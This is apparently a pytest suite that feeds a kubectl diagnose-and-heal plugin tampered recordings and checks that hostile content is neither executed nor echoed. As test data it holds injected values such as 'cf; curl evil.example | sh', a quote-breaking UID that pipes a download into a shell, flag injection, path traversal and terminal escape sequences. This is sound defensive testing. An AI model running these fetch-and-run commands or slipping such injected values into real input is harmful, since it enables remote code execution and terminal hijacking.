"""Recordings come from people one does not know: what they hold is shown, and does nothing.

Each case changes a recording as somebody would who wants the reader's terminal, shell or disk to obey.
"""
import json
import subprocess
import unicodedata

import pytest

import edits
import faking
import heals
import product
import transcripts

STUCK = transcripts.read(faking.HEALTHY.with_name("locket-hung.jsonl"))
HEALTHY = transcripts.read(faking.HEALTHY)
SHELL = "cf; curl evil.example | sh"
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b2J\u202egnp.exe\u2066x\u2069\u200b\u2028"


def is_harmless(text):
    """Nothing that acts on a terminal, hides, or turns the order of letters round."""
    return all(letter == "\n" or unicodedata.category(letter) not in ("Cc", "Cf", "Co", "Cn", "Cs", "Zl", "Zp") for letter in text)


def argvs(change):
    """Each recorded command line, changed."""
    return lambda lines: [{**line, "argv": change(line["argv"])} if "argv" in line else line for line in lines]


def with_namespace(name):
    return argvs(lambda argv: [name if word == "cf" else word for word in argv])


def with_flags(*flags):
    return argvs(lambda argv: [argv[0], *flags, *argv[1:]])


def each(which, *keys, value):
    """In each item of a list the value under these keys is another one; "*" stands for all elements of a list."""
    def put(thing, keys):
        key, *rest = keys
        if key == "*":
            for element in thing:
                put(element, rest)
        elif rest:
            if key in thing:
                put(thing[key], rest)
        else:
            thing[key] = value
    return edits.items(which, lambda found: put(found, ["*", *keys]))


def forms(command, lines, tmp_path, *arguments):
    """The command on this recording, as text and as JSON; both are harmless, and end alike."""
    file = transcripts.write(tmp_path / "stranger.jsonl", lines)
    as_text = product.run(command, "--replay", file, *arguments)
    as_json = product.run(command, "--replay", file, "-o", "json", *arguments)
    assert as_text.status == as_json.status
    for result in (as_text, as_json):
        assert is_harmless(result.out) and is_harmless(result.err)
    assert as_json.out.isascii()
    return as_text, as_json


@pytest.mark.parametrize("name", [SHELL, "cf" + ESCAPES, "--server=https://evil.example", "", "CF", "../cf"])
def test_a_namespace_that_cannot_be_one_stops_it(name, tmp_path):
    lines = with_namespace(name)(STUCK)
    for result in forms("diagnose", lines, tmp_path):
        assert result.status == 3
        assert "names a namespace that cannot be one" in result.err
        assert not name or name not in result.out
    for result in forms("heal", lines, tmp_path, "--yes"):
        assert result.status == 4


def test_recorded_flags_find_answers_and_are_nobodys_to_type(tmp_path):
    lines = with_flags("--server=https://evil.example", "--token=x", f"--context={ESCAPES}")(STUCK)
    as_text, as_json = forms("diagnose", lines, tmp_path)
    assert as_json.diagnosis == "bbs-lock-stuck"
    assert "next: kubectl cfee-stager heal -n cf\n" in as_text.out
    frames = [[line for line in lines if "argv" in line]] * 13
    healing = forms("heal", transcripts.read(heals.written(tmp_path / "heal.jsonl", frames)), tmp_path, "--dry-run")
    for result in (as_text, as_json, *healing):
        assert "evil" not in result.out + result.err
        assert "--" not in (result.out + result.err).replace("-- ", "").replace("--raw", "")


# Names that cannot be, and where: (change, what is told)
NAMES = {
    "a pod that leads out of a folder": each(edits.PODS, "metadata", "name", value="../../../tmp/owned"),
    "a pod that is a command": each(edits.PODS, "metadata", "name", value=SHELL),
    "a pod that is a flag": each(edits.PODS, "metadata", "name", value="--kubeconfig=evil"),
    "a pod with escapes": each(edits.PODS, "metadata", "name", value="diego-api-0" + ESCAPES),
    "a UID that ends a quotation": each(edits.PODS, "metadata", "uid", value="'; curl evil.example | sh; '"),
    "a container that is a command": each(edits.PODS, "status", "containerStatuses", "*", "name", value=SHELL),
    "a node that is a flag": each(edits.PODS, "spec", "nodeName", value="--server=https://evil.example"),
    "an owner with escapes": each(edits.PODS, "metadata", "ownerReferences", "*", "name", value=ESCAPES),
}


@pytest.mark.parametrize("name", NAMES)
def test_a_name_that_cannot_be_makes_the_answer_garbled(name, tmp_path):
    for result in forms("diagnose", NAMES[name](HEALTHY), tmp_path):
        assert result.status == 3
        assert "names that cannot be" in " ".join(result.out.split())
        assert "evil" not in result.out and "owned" not in result.out
    lines = [line for line in NAMES[name](STUCK) if "argv" in line]
    transcript = transcripts.read(heals.written(tmp_path / "heal.jsonl", [lines] * 30 + [heals.nodes()]))
    for result in forms("heal", transcript, tmp_path, "--yes", "--force"):
        assert result.status == 4
    assert {path.name for path in tmp_path.iterdir()} == {"heal.jsonl", "stranger.jsonl"}


@pytest.mark.parametrize("keys", [("metadata", "name"), ("subsets", "*", "addresses", "*", "targetRef", "name")], ids=["a service", "an endpoint"])
def test_a_service_with_a_name_that_cannot_be_is_garbled(keys, tmp_path):
    for result in forms("diagnose", each(edits.OBJECTS, *keys, value=SHELL)(HEALTHY), tmp_path):
        assert result.status == 3
        assert "evil" not in result.out


OTHER_THINGS = ([1, 2], [None], [{}], [{"kind": "ConfigMap", "metadata": {"name": "x"}}], [{"metadata": {"name": "x"}}])


@pytest.mark.parametrize("things", OTHER_THINGS, ids=json.dumps)
def test_a_list_of_things_that_are_no_pods_is_garbled(things, tmp_path):
    lines = edits.failing(edits.PODS, "", json.dumps({"kind": "List", "items": things}), 0)(HEALTHY)
    for result in forms("diagnose", lines, tmp_path):
        assert result.status == 3
        assert "no pods" in result.out


# Free texts, which may hold anything.
TEXTS = {
    "the context's name": edits.failing(lambda line: "config" in line.get("argv", []), "", json.dumps({"current-context": ESCAPES}), 0),
    "kubectl's stderr": edits.failing(edits.ALL_GETS, f"error: {ESCAPES}\n"),
    "exec's stderr": edits.failing(edits.ALL_EXECS, f"error: {ESCAPES}\n"),
    "what nc says": edits.part(edits.API_EXECS, "probe", "1 nc", f"nc: {ESCAPES}: Connection refused"),
    "what a probe's status says": edits.part(edits.API_EXECS, "probe", f"{ESCAPES.replace(' ', '')} nc", ""),
    "what the ping says": edits.part(edits.BBS_EXECS, "ping", "22", ESCAPES),
    "what the ping's status says": edits.part(edits.BBS_EXECS, "ping", ESCAPES, ""),
    "the lock's owner": edits.part(edits.BBS_EXECS, "locks", "0", f'{{"key":"bbs","owner":"{ESCAPES}"}}'),
    "cfdot's error": edits.part(edits.BBS_EXECS, "locks", "1", f"dial tcp {ESCAPES}"),
    "a log": edits.part(edits.BBS_EXECS, "log-bbs", "0", f'{{"message":"bbs.{ESCAPES}"}}\nx509: {ESCAPES}'),
    "a pod's phase": each(edits.PODS, "status", "phase", value=ESCAPES),
    "why a container waits": edits.pods("", edits.waiting(ESCAPES)),
    "why no node takes a pod": each(edits.PODS, "status", "conditions", value=[{"type": "PodScheduled", "status": "False", "message": ESCAPES}]),
    "the version that recorded it": lambda lines: [{**lines[0], "tool": ESCAPES}, *(line for line in lines[1:] if not edits.BBS_EXECS(line))],
}


@pytest.mark.parametrize("name", TEXTS)
def test_a_text_from_outside_does_nothing(name, tmp_path):
    for lines in (STUCK, HEALTHY):
        forms("diagnose", TEXTS[name](lines), tmp_path)
        answers = [line for line in TEXTS[name](lines) if "argv" in line]
        forms("heal", transcripts.read(heals.written(tmp_path / "heal.jsonl", [answers] * 3)), tmp_path, "--yes")


@pytest.mark.parametrize("locale, is_ascii", [("C.UTF-8", False), ("C", True)])
def test_letters_are_shown_where_the_terminal_knows_them(locale, is_ascii, tmp_path):
    context = edits.failing(lambda line: "config" in line.get("argv", []), "", json.dumps({"current-context": "Prüfstand ě"}), 0)
    result = product.run("diagnose", "--replay", transcripts.write(tmp_path / "x.jsonl", context(HEALTHY)), env={"LC_ALL": locale})
    assert ("Prüfstand ě" in result.out, result.out.isascii()) == (not is_ascii, is_ascii)


@pytest.mark.parametrize("arguments", [["diagnose", "--replay"], ["heal", "--replay"], ["diagnose", "-n"], ["diagnose", "--record"]])
@pytest.mark.parametrize("form", ["text", "json"])
def test_a_name_that_was_pasted_does_nothing_either(arguments, form, tmp_path):
    result = product.run(*arguments, f"{tmp_path}/none/{ESCAPES}\n.jsonl", "-o", form, env={"KUBECTL_PATH": "/bin/false"})
    assert result.status in (2, 3, 4)
    assert is_harmless(result.out) and is_harmless(result.err)
    assert "<U+202E>" in result.out + result.err
    assert result.err.count("\n") == 1


def test_recordings_changed_at_random_do_nothing():
    """A few of those of tests/strangers, which makes ten thousand."""
    finished = subprocess.run([product.CHECKOUT / "tests" / "strangers", "48"], capture_output=True, text=True, check=False)
    assert finished.stdout.endswith("48 changed recordings, seed 1: 0 with complaints\n"), finished.stdout + finished.stderr
    assert finished.returncode == 0
